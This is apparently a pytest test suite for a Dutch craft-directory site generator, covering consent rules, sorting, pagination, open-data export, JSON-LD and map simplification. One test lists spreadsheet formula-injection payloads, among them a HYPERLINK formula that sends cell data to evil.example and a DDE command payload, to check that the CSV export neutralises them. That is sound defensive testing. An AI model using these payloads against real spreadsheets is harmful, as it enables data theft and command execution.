import csv
import io
import itertools
import json
import math

from craft_directory.directory import (
    Directory,
    InitialLink,
    filter_counts,
    initials,
    is_published,
    is_withdrawn,
    monogram,
    paginate,
    profile_from_data,
    sort_key,
)
from craft_directory.mapping import (
    ASSET,
    TOLERANCE,
    label_position,
    level,
    load_map,
    rings,
    simplified,
    simplified_ring,
)
from craft_directory.opendata import COLUMNS, datapackage, rows, to_csv, to_json
from craft_directory.structured import profile_jsonld, schema_type
from hypothesis import example, given, settings
from hypothesis import strategies as st

URL = "ambachtengids/{slug}/"


def data(**kw):
    base = {"name": "Jan de Vries", "type": "ambachtsmens", "crafts": ["smeden"], "region": "utrecht",
            "consent": {"date": "2026-01-01", "scope": ["profiel", "foto", "badge", "open-data"]}}
    base.update(kw)
    return base


def test_consent_decides_what_is_published():
    assert is_published(data())
    assert not is_published(data(status="withdrawn"))
    assert not is_published(data(consent={"date": "2026-01-01", "scope": ["foto", "badge"]}))
    assert is_withdrawn(data(status="withdrawn"))
    assert not is_withdrawn(data(consent={"date": "2026-01-01", "scope": ["foto", "badge"]}))  # never published


def test_photo_needs_foto_consent_and_email_needs_contact_public():
    with_photo = profile_from_data("jan", data(photo="images/p.jpg", photo_alt="Jan", email="jan@example.nl"), URL)
    assert with_photo.photo == "images/p.jpg" and with_photo.email is None
    no_foto = profile_from_data("jan", data(photo="images/p.jpg", photo_alt="Jan",
                                            consent={"date": "2026-01-01", "scope": ["profiel"]}), URL)
    assert no_foto.photo is None and no_foto.photo_alt is None
    public = profile_from_data("jan", data(email="jan@example.nl", contact_public=True), URL)
    assert public.email == "jan@example.nl" and public.url == "ambachtengids/jan/"


def test_sort_key_ignores_case_accents_and_leading_t():
    names = ["Zoë Visser", "'t Hof", "Ĳsbrand Ĳzerman", "anouk Öztürk", "Hendrik"]
    assert sorted(names, key=sort_key) == ["anouk Öztürk", "Hendrik", "'t Hof", "Ĳsbrand Ĳzerman", "Zoë Visser"]
    assert sort_key("’t Gooi") == sort_key("'t Gooi") == "gooi"  # the typographic apostrophe too


LETTER_URL = "ambachtengids/a-z/{letter}/"


def test_initials_group_every_profile_once_in_order_and_paginate():
    names = ["Anna", "Arie", "Ans", "Bram", "’t Hof", "Ĳsbrand", "Öztürk", "3D-Smederij", "Zoë", "北京"]
    gids = Directory.build([profile_from_data(f"p{i}", data(name=name), URL) for i, name in enumerate(names)], set())
    letters = initials(gids.profiles, LETTER_URL, 2)
    assert [i.letter for i in letters] == ["#", *"ABCDEFGHIJKLMNOPQRSTUVWXYZ"]
    by_letter = {i.letter: i for i in letters}
    assert [p.name for p in by_letter["#"].profiles] == ["北京", "3D-Smederij"]  # sort key "" before "3d"
    assert by_letter["#"].id == "overig" and by_letter["#"].url == "ambachtengids/a-z/overig/"
    assert [p.name for p in by_letter["H"].profiles] == ["’t Hof"]
    assert [p.name for p in by_letter["I"].profiles] == ["Ĳsbrand"]
    assert [p.name for p in by_letter["O"].profiles] == ["Öztürk"]
    assert sorted(p.name for i in letters for p in i.profiles) == sorted(names)
    empty = by_letter["C"]
    assert empty.profiles == [] and empty.url is None and empty.pages == []

    a = by_letter["A"]
    assert [p.name for p in a.profiles] == ["Anna", "Ans", "Arie"]
    assert [page.url for page in a.pages] == ["ambachtengids/a-z/a/", "ambachtengids/a-z/a/2/"]
    assert [[p.name for p in page.profiles] for page in a.pages] == [["Anna", "Ans"], ["Arie"]]
    first, second = a.pages
    assert first.pages is second.pages and first.pages.num_pages == 2 and first.pages.page_range == [1, 2]
    assert first.has_next() and not first.has_previous() and first.next_page_number() == 2
    assert second.has_previous() and not second.has_next() and second.previous_page_number() == 1
    assert first.pages.page(2).url == "ambachtengids/a-z/a/2/"
    assert len(by_letter["B"].pages) == 1
    assert a.link == InitialLink("A", "a", 3, "ambachtengids/a-z/a/") and a.link.title == "Ambachtengids: A"
    assert empty.link.count == 0 and empty.link.url is None


def test_paginate_splits_in_order_with_numbered_urls():
    people = [profile_from_data(f"p{i}", data(name=f"Naam {i}"), URL) for i in range(5)]
    pages = paginate(people, "ambachtengids/type/ambachtsmens/", 2)
    assert [page.url for page in pages] == ["ambachtengids/type/ambachtsmens/", "ambachtengids/type/ambachtsmens/2/",
                                            "ambachtengids/type/ambachtsmens/3/"]
    assert [[p.slug for p in page.profiles] for page in pages] == [["p0", "p1"], ["p2", "p3"], ["p4"]]
    assert [page.number for page in pages] == [1, 2, 3]
    assert pages[0].pages.urls == [page.url for page in pages] and pages[2].pages is pages[0].pages
    assert not pages[0].has_previous() and pages[0].has_next() and pages[2].has_previous() and not pages[2].has_next()
    assert [page.url for page in paginate(people, "x/", 5)] == ["x/"]
    assert [page.profiles for page in paginate([], "x/", 5)] == [[]]
    try:
        paginate(people, "x/", 0)
    except ValueError:
        pass
    else:
        raise AssertionError("a page size below 1 is refused")


def test_initials_leave_out_the_other_group_when_nobody_needs_it():
    gids = directory()
    letters = initials(gids.profiles, LETTER_URL, 1500)
    assert [i.letter for i in letters] == list("ABCDEFGHIJKLMNOPQRSTUVWXYZ")
    assert [i.letter for i in letters if i.url] == ["A", "B", "C", "D"]


def test_filter_counts_count_profiles_per_option():
    counts = filter_counts(directory().profiles)
    assert counts["ambacht"] == {"smeden": 2, "edelsmeden": 1, "weven": 1}
    assert counts["regio"] == {"utrecht": 2, "zeeland": 1, "limburg": 1}
    assert counts["type"] == {"ambachtsmens": 3, "museum": 1}
    assert counts["aanbod"] == {"leerplek": 1, "stage": 1}


def directory():
    profiles = [
        profile_from_data("a", data(name="Anna", crafts=["smeden"], offers=["stage", "leerplek"]), URL),
        profile_from_data("b", data(name="Bram", crafts=["smeden", "edelsmeden"], region="zeeland"), URL),
        profile_from_data("c", data(name="Cas", type="museum", crafts=[], region="utrecht"), URL),
        profile_from_data("d", data(name="Dirk", crafts=["weven"], region="limburg", photo="x.jpg", photo_alt="x",
                                    tagline="Weeft"), URL),
    ]
    return Directory.build(profiles, {"weg"})


def test_indexes_and_counts():
    gids = directory()
    assert [p.name for p in gids.profiles] == ["Anna", "Bram", "Cas", "Dirk"]
    assert [p.slug for p in gids.by_craft["smeden"]] == ["a", "b"]
    assert [p.slug for p in gids.by_region["utrecht"]] == ["a", "c"]
    assert gids.type_counts() == [("ambachtsmens", 3), ("museum", 1)]
    assert gids.profiles[0].offers == ["leerplek", "stage"]  # canonical order
    assert gids.withdrawn == {"weg"}


def test_related_prefers_shared_crafts_and_excludes_self():
    gids = directory()
    assert [p.slug for p in gids.related(gids.by_slug["a"])] == ["b"]
    assert gids.related(gids.by_slug["c"]) == []


def test_related_ranks_by_shared_crafts_then_region_then_a_fixed_order():
    crafts = ["smeden", "weven", "bakken"]
    regions = ["utrecht", "drenthe"]
    profiles = [profile_from_data(f"p{i}", data(name=f"P {i}", crafts=[crafts[i % 3], crafts[(i + 1 + i // 3 % 2) % 3]],
                                                  region=regions[i % 2]), URL) for i in range(40)]
    gids = Directory.build(profiles, set())
    for profile in gids.profiles:
        scores = {}
        for other in gids.profiles:
            shared = len(set(profile.crafts) & set(other.crafts))
            if other is not profile and shared:
                scores[other.slug] = 2 * shared + (other.region == profile.region)
        expected = sorted(scores, key=lambda slug: (-scores[slug], gids.by_slug[slug].stable_rank))[:4]
        assert [p.slug for p in gids.related(profile)] == expected


def test_featured_is_deterministic_and_needs_photo():
    assert [p.slug for p in directory().featured()] == ["d"]
    assert directory().featured() == directory().featured()


def test_open_data_rows_follow_consent_and_columns():
    gids = directory()
    gids.profiles[1].scope = ["profiel"]  # Bram did not consent to open data
    data_rows = rows(gids.profiles, {"smeden": "Smeden"}, {"utrecht": "Utrecht"}, "https://x.test")
    assert [r["id"] for r in data_rows] == ["a", "c", "d"]
    assert list(data_rows[0]) == [c.name for c in COLUMNS]
    assert data_rows[0]["ambachten_namen"] == "Smeden" and data_rows[0]["aanbod"] == "leerplek;stage"
    parsed = list(csv.DictReader(io.StringIO(to_csv(data_rows))))
    assert [r["naam"] for r in parsed] == ["Anna", "Cas", "Dirk"]
    assert json.loads(to_json(data_rows))[0]["profiel_url"] == "https://x.test/ambachtengids/a/"


def test_datapackage_describes_both_files_under_cc_by():
    package = datapackage("https://x.test", "Site", "SOA")
    assert {r["path"] for r in package["resources"]} == {"ambachtengids.csv", "ambachtengids.json"}
    assert package["licenses"][0]["name"] == "CC-BY-4.0"
    assert [f["name"] for f in package["resources"][0]["schema"]["fields"]] == [c.name for c in COLUMNS]


def test_schema_types():
    assert schema_type(profile_from_data("a", data(), URL)) == "Person"
    assert schema_type(profile_from_data("a", data(type="opleiding"), URL)) == "EducationalOrganization"
    assert schema_type(profile_from_data("a", data(type="leerbedrijf", offers=["workshop"]), URL)) == "LocalBusiness"
    assert schema_type(profile_from_data("a", data(type="organisatie", crafts=[]), URL)) == "Organization"
    person = profile_jsonld(profile_from_data("a", data(skills=["vuurlassen"]), URL), "https://x.test",
                            {"smeden": "Smeden"}, {"utrecht": "Utrecht"}, None)
    assert person["hasOccupation"] == [{"@type": "Occupation", "name": "Smeden"}]
    assert person["knowsAbout"] == ["Smeden", "vuurlassen"] and "email" not in person


def test_map_has_twelve_provinces_with_labels_inside_the_view():
    view_box, provinces = load_map()
    width, height = map(float, view_box.split()[2:])
    assert len(provinces) == 12
    for province in provinces:
        assert 0 < province.label_x < width and 0 < province.label_y < height
    by_id = {p.id: p for p in provinces}
    assert by_id["groningen"].label_y < by_id["limburg"].label_y  # north above south
    assert by_id["zeeland"].label_x < by_id["overijssel"].label_x  # west left of east


def test_rings_and_label_of_a_square_with_an_island():
    path = "m 0,0 10,0 0,10 -10,0 z m 20,20 1,0 0,1 z"
    assert len(rings(path)) == 2
    assert rings(path)[1][0] == (20.0, 20.0)  # relative to the start of the closed ring
    assert label_position(path) == (5.0, 5.0)


def distance_to_ring(point, ring) -> float:
    """The distance from ``point`` to the closed polyline through ``ring``."""
    best = math.inf
    for (x1, y1), (x2, y2) in zip(ring, [*ring[1:], ring[0]], strict=True):
        dx, dy = x2 - x1, y2 - y1
        t = 0.0 if dx == dy == 0 else max(0.0, min(1.0, ((point[0] - x1) * dx + (point[1] - y1) * dy) / (dx * dx + dy * dy)))
        best = min(best, math.dist(point, (x1 + t * dx, y1 + t * dy)))
    return best


ROUNDING = math.sqrt(0.5)  # the farthest a point moves to whole units


def assert_close(original, drawn):
    """Every point of the original ring near the drawn one, every drawn point a rounded original point, none
    the same as the one before it (a ring may pass a point twice), and at least three of them."""
    assert all(distance_to_ring(point, drawn) <= TOLERANCE + ROUNDING + 1e-9 for point in original)
    rounded = {(round(x), round(y)) for x, y in original}
    assert set(drawn) <= rounded and len(set(drawn)) >= 3
    assert all(a != b for a, b in zip(drawn, [*drawn[1:], drawn[0]], strict=True))


def test_the_drawn_map_keeps_every_border_within_a_unit_of_the_vendored_one():
    vendored = json.loads(ASSET.read_text(encoding="utf-8"))["provinces"]
    _, provinces = load_map()
    assert sum(len(p.path) for p in provinces) < sum(map(len, vendored.values())) / 4  # 67 KB drawn in 11 KB
    for province in provinces:
        original, drawn = rings(vendored[province.id]), rings(province.path)
        kept = [ring for ring in original if simplified_ring(ring)]
        assert len(drawn) == len(kept) >= 1, province.id
        for ring, points in zip(kept, drawn, strict=True):
            assert_close(ring, points)
        for ring in original:  # only specks are left out
            if not simplified_ring(ring):
                xs, ys = [x for x, _ in ring], [y for _, y in ring]
                assert max(xs) - min(xs) <= 2 * (TOLERANCE + 1) and max(ys) - min(ys) <= 2 * (TOLERANCE + 1)
        # the label still comes from the vendored shape, and sits inside the drawn map
        assert (province.label_x, province.label_y) == label_position(vendored[province.id])


# quarters: exact in binary, so the relative path the test writes adds up to the same points
coordinate = st.integers(-2000, 2000).map(lambda value: value / 4)


@settings(max_examples=200, deadline=None)
@given(ring=st.lists(st.tuples(coordinate, coordinate), min_size=3, max_size=60))
# found by this test: (-1, -1.75) lies in line with (1, 0.25)-(0, -0.75), beyond its end; measured to the line
# through the segment it was dropped, and the drawn ring missed it by 1.1 units
@example(ring=[(0.0, -0.75), (0.0, 0.0), (1.0, 0.25), (-1.0, -1.75)])
def test_a_simplified_ring_stays_near_any_ring(ring):
    points = simplified_ring(ring)
    if points:
        assert_close(ring, points)
        path = simplified("m " + " ".join(f"{x},{y}" for x, y in [ring[0]] + [
            (b[0] - a[0], b[1] - a[1]) for a, b in itertools.pairwise(ring)]) + " z")
        assert rings(path) == [[(float(x), float(y)) for x, y in points]]
    else:  # nothing drawn: the whole ring lies along one line between two whole-unit points (or at one)
        rounded = {(round(x), round(y)) for x, y in ring}
        assert any(all(distance_to_ring(point, [a, b]) <= TOLERANCE + ROUNDING + 1e-9 for point in ring)
                   for a in rounded for b in rounded)


def test_simplified_writes_whole_units_and_leaves_specks_out():
    assert simplified("m 0,0 10,0 0,10 -10,0 z m 20,20 1,0 0,1 z") == "M0 0l10 0 0 10-10 0zM20 20l1 0 0 1z"
    assert simplified("m 0,0 5,0.1 5,-0.1 0,10 -10,0 z") == "M0 0l10 0 0 10-10 0z"  # 0.1 off the line: gone
    assert simplified("m 0,0 5,0.9 5,-0.9 0,10 -10,0 z") == "M0 0l5 1 5-1 0 10-10 0z"  # 0.9 off: kept
    assert simplified("m 0,0 0.2,0 0,0.2 z") == ""  # an islet under a unit
    assert simplified("m 0,0 10,0 10,0 z") == ""  # a line, not an area


def test_levels():
    assert [level(c, 10) for c in (0, 1, 3, 5, 8, 10)] == [0, 1, 2, 2, 4, 4]
    assert level(0, 0) == 0


def test_profile_slugs_cannot_take_the_directory_own_addresses():
    """Every path segment the ambachtengids writes below its own URL is a reserved profile slug."""
    import runpy
    from pathlib import Path

    from content_model.check import RESERVED_PROFILE_SLUGS
    from craft_directory.generator import FACET_SEGMENTS

    settings = runpy.run_path(str(Path(__file__).resolve().parents[2] / "pelicanconf.py"))
    base = settings["DIRECTORY_URL"]
    assert settings["PROFILE_URL"] == base + "{slug}/"
    used = {settings["DIRECTORY_FACET_URL"].format(kind=kind, id="x") for kind in FACET_SEGMENTS}
    used |= {settings["DIRECTORY_AZ_URL"], settings["DIRECTORY_LETTER_URL"].format(letter="a")}
    segments = {url.removeprefix(base).split("/")[0] for url in used}
    assert all(url.startswith(base) for url in used)
    assert segments == RESERVED_PROFILE_SLUGS


FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Klik")', "+31 6 12345678", "-2+3", "@SUM(A1:A9)",
            "\t=1", "\r=1", " =1+1", "\u00a0\t-1", "\uff1dCMD()", "=cmd|' /C calc'!A0"]


def test_csv_neutralises_spreadsheet_formulas_and_json_stays_exact():
    gids = directory()
    data_rows = rows(gids.profiles, {"smeden": "Smeden"}, {"utrecht": "Utrecht"}, "https://x.test")
    template = data_rows[0]
    hostile = []
    for index, formula in enumerate(FORMULAS):
        hostile.append({**template, "id": f"p{index}", "naam": formula, "kernzin": formula, "plaats": formula})
    hostile.append({**template, "id": "gewoon", "naam": "Anna - smid", "kernzin": "1 + 1 = 2", "plaats": "'s-Hertogenbosch"})
    parsed = list(csv.DictReader(io.StringIO(to_csv(hostile), newline="")))
    for row, formula in zip(parsed, FORMULAS, strict=False):
        for column in ("naam", "kernzin", "plaats"):
            assert row[column] == "'" + formula, (column, row[column])
            assert row[column][0] == "'"
    ordinary = parsed[-1]
    assert (ordinary["naam"], ordinary["kernzin"], ordinary["plaats"]) == ("Anna - smid", "1 + 1 = 2", "'s-Hertogenbosch")
    assert ordinary["actief_sinds"] == str(template["actief_sinds"] or "")
    assert [r["naam"] for r in json.loads(to_json(hostile))[:len(FORMULAS)]] == FORMULAS


def test_monogram_takes_first_and_last_word_without_the_article():
    assert monogram("Atelier de Vries") == "AV"
    assert monogram("'t Houten Huis") == "HH"
    assert monogram("smederij") == "S"
    assert monogram("ébéniste Ölz") == "ÉÖ"
    assert monogram("   ") == ""
    assert profile_from_data("jan", data(), URL).monogram == "JV"


def test_card_place_is_left_out_when_it_is_the_regions_name():
    profile = profile_from_data("jan", data(place="Utrecht"), URL)
    assert profile.place_beside("Utrecht") == ""
    assert profile.place_beside("Province of Utrecht", "Utrecht") == ""
    assert profile.place_beside("Noord-Brabant") == "Utrecht"
    assert profile_from_data("jan", data(), URL).place_beside("Utrecht") == ""
